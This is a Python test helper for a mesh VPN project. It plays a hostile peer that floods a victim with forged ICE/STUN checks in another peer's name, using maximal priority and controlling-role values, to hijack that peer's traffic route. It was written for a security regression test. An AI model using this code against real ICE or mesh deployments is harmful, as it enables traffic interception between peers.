"""A hostile mesh peer for namespace tests: M, a real peer of the victim (its key and
candidate are in the victim's map), tries to steer the victim's traffic for another peer
to itself with ICE checks in that peer's name (the attack of issue 11, section 8).

    python ice_attacker.py HOST DIR ME VICTIM IMPERSONATED SECONDS INNER

binds a UDP socket on HOST, writes DIR/ME.json as ice_node.py does (its public key, ufrag,
host candidate and tunnel address INNER: the victim adds it as a peer), waits for
DIR/VICTIM.json and DIR/IMPERSONATED.json (what M's map shows of both: keys, ufrags,
candidates), then for SECONDS floods the victim with checks in IMPERSONATED's name from its
own address: USERNAME ``victim:impersonated``, USE-CANDIDATE, ICE-CONTROLLING with the
largest tie-breaker (the victim yields the role), the largest priority, signed with the best
key M has: a password the victim published (nodes before per-pair keys did, and the map gave
it to every peer), else its own pair's key with the victim. Checks the victim sends to M's
address in IMPERSONATED's name are answered the same way (with IMPERSONATED's published
password where there is one), so a pair to M's address would succeed and consent checks on it
would keep answering; the victim's checks of M's own pair are answered honestly. At the end
it writes DIR/ME.status.json: checks sent, and how many the victim answered.
"""

from __future__ import annotations

import base64
import os
import select
import socket
import sys
import time
from pathlib import Path
from typing import Any

from aioice import stun
from aioice.candidate import Candidate, candidate_priority
from node_files import read_node, write_json

from wgpy.nat.ice import derive_pair_keys, new_ufrag
from wgpy.protocol.crypto import dh, generate_private_key, public_key

INTERVAL = 0.01  # seconds between two forged checks


def main(host: str, directory: Path, me: str, victim: str, other: str, seconds: float) -> None:
    private = generate_private_key(os.urandom)
    ufrag = new_ufrag(os.urandom)
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((host, 0))
    port = sock.getsockname()[1]
    candidate = Candidate(
        foundation="host",
        component=1,
        transport="udp",
        priority=candidate_priority(1, "host"),
        host=host,
        port=port,
        type="host",
    )
    write_json(
        directory / f"{me}.json",
        {
            "public_key": base64.b64encode(public_key(private)).decode(),
            "ufrag": ufrag,
            "candidates": [candidate.to_sdp()],
            "inner": sys.argv[7],
        },
    )
    v, o = read_node(directory, victim), read_node(directory, other)
    v_public = base64.b64decode(v["public_key"])
    shared = dh(private, v_public)

    def mine(claimed: str) -> Any:
        return derive_pair_keys(
            shared,
            local_public=public_key(private),
            remote_public=v_public,
            local_ufrag=claimed,
            remote_ufrag=v["ufrag"],
        )

    forged_keys = mine(o["ufrag"])  # M's own key with the victim, in the other's name
    forge_key = v["pwd"].encode() if "pwd" in v else forged_keys.outbound
    answer_key = o["pwd"].encode() if "pwd" in o else forged_keys.inbound
    honest_key = mine(ufrag).inbound
    target = (v["candidates"][0].split()[4], int(v["candidates"][0].split()[5]))
    sent = answered = 0
    ours: set[bytes] = set()
    deadline = time.monotonic() + seconds
    next_check = 0.0
    while time.monotonic() < deadline:
        now = time.monotonic()
        if now >= next_check:
            check = stun.Message(stun.Method.BINDING, stun.Class.REQUEST)
            check.attributes["USERNAME"] = f"{v['ufrag']}:{o['ufrag']}"
            check.attributes["PRIORITY"] = 2**32 - 1
            check.attributes["ICE-CONTROLLING"] = 2**64 - 1
            check.attributes["USE-CANDIDATE"] = None
            check.add_message_integrity(forge_key)
            sock.sendto(bytes(check), target)
            ours.add(check.transaction_id)
            sent += 1
            next_check = now + INTERVAL
        ready, _, _ = select.select([sock], [], [], max(0.0, next_check - time.monotonic()))
        if not ready:
            continue
        data, source = sock.recvfrom(2048)
        try:
            message = stun.parse_message(data)
        except ValueError:
            continue
        if message.message_class == stun.Class.RESPONSE and message.transaction_id in ours:
            answered += 1  # the victim took a forged check
            continue
        if message.message_class != stun.Class.REQUEST:
            continue
        username = message.attributes.get("USERNAME", "")
        if username == f"{o['ufrag']}:{v['ufrag']}":
            key = answer_key  # a check of the pair the victim learned at M's address
        elif username == f"{ufrag}:{v['ufrag']}":
            key = honest_key  # M's own pair: a real peer answers
        else:
            continue
        response = stun.Message(
            stun.Method.BINDING, stun.Class.RESPONSE, transaction_id=message.transaction_id
        )
        response.attributes["XOR-MAPPED-ADDRESS"] = source
        response.add_message_integrity(key)
        sock.sendto(bytes(response), source)
    write_json(directory / f"{me}.status.json", {"sent": sent, "answered": answered})


if __name__ == "__main__":
    h, d, m, victim_name, other_name, s = sys.argv[1:7]
    main(h, Path(d), m, victim_name, other_name, float(s))
